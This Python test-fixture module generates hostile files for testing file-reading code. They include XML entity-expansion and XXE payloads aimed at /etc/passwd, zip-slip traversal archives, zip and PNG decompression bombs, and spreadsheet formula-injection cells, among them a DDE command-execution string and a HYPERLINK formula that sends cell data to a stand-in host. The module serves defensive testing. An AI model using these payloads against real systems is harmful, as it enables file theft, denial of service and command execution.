"""A catalogue of hostile files, made in code: entity expansion, external entities, zip
slip, zip bombs, formula injection, broken encodings, huge lines, wrong extensions.

Each maker returns bytes; ``catalogue()`` names them all, and the ``hostile`` fixture writes
them into a folder for code that reads files from disk.
"""

import io
import struct
import zipfile
import zlib

#: cells a spreadsheet program would evaluate, one per dangerous first character
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


def billion_laughs(root: str, levels: int = 9) -> bytes:
    """The classic entity expansion: ten to the ``levels`` "lol"s from under a kilobyte."""
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n' + "\n".join(entities) + "\n]>\n"
        f"<{root}>&lol{levels};</{root}>\n"
    ).encode()


def external_entity(root: str, target: str) -> bytes:
    """An entity whose value is fetched from ``target`` (file://, http://) by a naive parser."""
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY x SYSTEM "{target}">]>\n'
        f"<{root}>&x;</{root}>\n"
    ).encode()


def parameter_entity(root: str, target: str) -> bytes:
    """An external DTD pulled in through a parameter entity."""
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "{target}"> '
        f"%remote;]>\n<{root}/>\n"
    ).encode()


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out.getvalue()


def zip_slip(first: dict[str, bytes] | None = None) -> list[bytes]:
    """Archives whose member names climb out of the folder they are unpacked into."""
    names = ("../../evil.txt", "/etc/evil.txt", "..\\..\\evil.txt", "C:/evil.txt",
             "sub/../../evil.txt")  # fmt: skip
    return [zip_of({**(first or {}), name: b"owned"}) for name in names]


def zip_bomb(name: str = "xl/sharedStrings.xml", megabytes: int = 40) -> bytes:
    """One member of zeros compressed about a thousand to one."""
    return zip_of({name: bytes(megabytes * 1024 * 1024)})


def zip_many(count: int = 12_000) -> bytes:
    """An archive of very many empty members (a bomb of entries rather than bytes)."""
    return zip_of({f"m/{n}.txt": b"" for n in range(count)}, zipfile.ZIP_STORED)


def xlsx(rows: list[list], *, formula_cells: bool = False) -> bytes:
    """A real spreadsheet made with openpyxl; ``formula_cells`` writes "=..." as formulas."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if not formula_cells:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def replace_member(archive: bytes, name: str, data: bytes) -> bytes:
    """The archive with one member's content swapped (an XLSX or DOCX with poisoned XML)."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    members = {info.filename: source.read(info) for info in source.infolist()}
    members[name] = data
    return zip_of(members)


def docx(paragraphs: list[str]) -> bytes:
    from docx import Document

    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG that claims 900 million pixels in a few bytes (a decompression bomb's header)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(width + 1) * 4)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(
        b"IEND", b"")  # fmt: skip


INVALID_UTF8 = b"Namn;F\xf6dd\r\n\x81\x8d\x8f\x90\x9d;\xc3\x28\xa0\xa1\r\n"
HUGE_LINE = b"a" * (10 * 1024 * 1024)


def utf16_with_bom(text: str) -> bytes:
    return text.encode("utf-16")  # Python writes the byte-order mark first


def catalogue() -> dict[str, bytes]:
    """Every hostile file by a name that says what it is (extensions as a browser sends)."""
    files = {
        "billion-laughs.xml": billion_laughs("CodeBook"),
        "xxe-file.xml": external_entity("CodeBook", "file:///etc/passwd"),
        "xxe-http.xml": external_entity("CodeBook", "http://127.0.0.1:9/secret"),
        "xxe-parameter.xml": parameter_entity("CodeBook", "http://127.0.0.1:9/evil.dtd"),
        "zip-bomb.zip": zip_bomb(),
        "zip-many.zip": zip_many(),
        "invalid-utf8.csv": INVALID_UTF8,
        "utf16-bom.txt": utf16_with_bom("Interviewer: Hello\nYoung person: Hi\n"),
        "huge-line.txt": HUGE_LINE,
        "empty.txt": b"",
        "png-bomb.png": png_header_bomb(),
    }
    for number, archive in enumerate(zip_slip(), 1):
        files[f"zip-slip-{number}.zip"] = archive
    return files
